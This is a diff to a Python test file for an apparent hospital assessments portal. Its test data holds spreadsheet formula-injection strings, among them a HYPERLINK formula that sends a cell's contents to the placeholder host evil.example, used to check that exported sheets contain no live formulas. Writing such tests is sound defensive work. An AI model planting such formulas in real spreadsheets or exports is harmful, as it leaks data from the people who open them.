@@ -13,7 +13,6 @@ from portal.assessments import services
 from portal.assessments.models import Outcome
 from tests.conftest import login
 from tests.factories_assessments import assessments_of, build_two_hospitals, publish
-from tests.factories_search import world  # noqa: F401
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
 EVIL = {EVIL_NAME, "+86 21 5555", "-1+2", "@SUM(1,1)"}
@@ -55,7 +54,7 @@ def _assert_no_formulas(sheet):
 
 
 @pytest.fixture
-def evil(world):  # noqa: F811
+def evil(world):
     world.entry(EVIL_NAME, model="+86 21 5555", company=("@SUM(1,1)", ""), indications="-1+2")
     world.entry("超导磁共振成像系统", model="uMR 890")
     world.index()
